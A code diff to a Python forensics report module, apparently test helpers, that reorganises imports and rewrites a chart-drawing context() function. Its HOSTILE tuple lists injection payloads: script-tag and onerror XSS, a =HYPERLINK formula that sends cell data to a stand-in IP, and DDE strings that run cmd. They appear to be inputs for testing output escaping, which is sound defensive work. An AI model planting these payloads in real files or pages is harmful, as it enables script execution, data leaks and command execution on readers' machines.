@@ -15,8 +15,9 @@ import pyarrow as pa
 
 from forensics import schema
 from forensics.case import CaseFile
+from forensics.report import charts
+from forensics.report.context import Context
 from forensics.report.facts import Bin, Evidence, Facts, Method, Rate
-from forensics.report.formats import Context
 from forensics.report.gather import Inputs, gather
 from forensics.report.wording import load
 
@@ -286,7 +287,7 @@ def renamed(made: Facts, **header: Any) -> Facts:
 HOSTILE = (
     "<script>alert(document.domain)</script>",
     "</w:t></w:r><img src=x onerror=alert(1)>",
-    "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"click\")",
+    '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -330,5 +331,7 @@ def swapped(value: Any, change: dict[str, str]) -> Any:
     return value
 
 
-def context(pictures: dict[str, Any] | None = None) -> Context:
-    return Context(load(), pictures or {})
+def context(made: Facts) -> Context:
+    """What a format is handed beside the facts."""
+    words = load()
+    return Context(words, charts.draw(made, words))
